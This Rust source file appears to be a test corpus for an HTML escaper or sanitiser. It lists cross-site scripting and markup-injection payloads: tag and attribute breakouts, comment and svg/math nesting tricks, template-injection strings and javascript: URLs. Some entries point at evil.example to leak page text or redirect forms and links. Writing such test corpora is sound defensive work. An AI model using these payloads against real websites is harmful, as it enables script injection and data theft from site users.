//! What an attacker writes wherever people write: each string breaks some page that somebody once made.

/// The harmless text of the same kind.
pub const HARMLESS: &str = "harmless";

pub const HOSTILE: &[&str] = &[
    // Ends of elements whose content is text.
    "</title><meta http-equiv=refresh content='0;url=//evil.example/?",
    "</title><script>alert(1)</script>",
    "</TITLE\t><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><svg onload=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    "</template><img src=x onerror=alert(1)>",
    "</head><body onload=alert(1)>",
    "</body></html><p>",
    // Begins of elements that swallow what follows.
    "<!--",
    "<!-- --!><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>",
    "<!--<script>",
    "<![CDATA[<b>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x>",
    "<textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import '//evil.example/x.css';",
    "<template><script>alert(1)</script>",
    "<plaintext>",
    "<xmp>",
    "<select><option>",
    "<table><tr><td><form action=//evil.example>",
    "<base href=//evil.example/>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    // Ends of attributes.
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\"'`><img src=x onerror=alert(1)>",
    "x\" autofocus onfocus=alert(1) \"",
    " onclick=alert(1) ",
    "&quot; onclick=alert(1) &quot;",
    "&#34;&#x3e;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;/title&gt;&lt;script&gt;",
    "&",
    "&amp",
    "&#0;",
    // Ends of strings in scripts.
    "\\",
    "\\\"",
    "\"-alert(1)-\"",
    "'-alert(1)-'",
    "\\u003c/script\\u003e",
    "\u{2028}alert(1)\u{2029}",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "\"}];alert(1);//",
    "__proto__",
    // Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    // One character each.
    "<",
    ">",
    "\"",
    "'",
    "`",
    "/",
    "=",
];

/// All of them in one text.
pub fn joined() -> String {
    HOSTILE.join(" ")
}
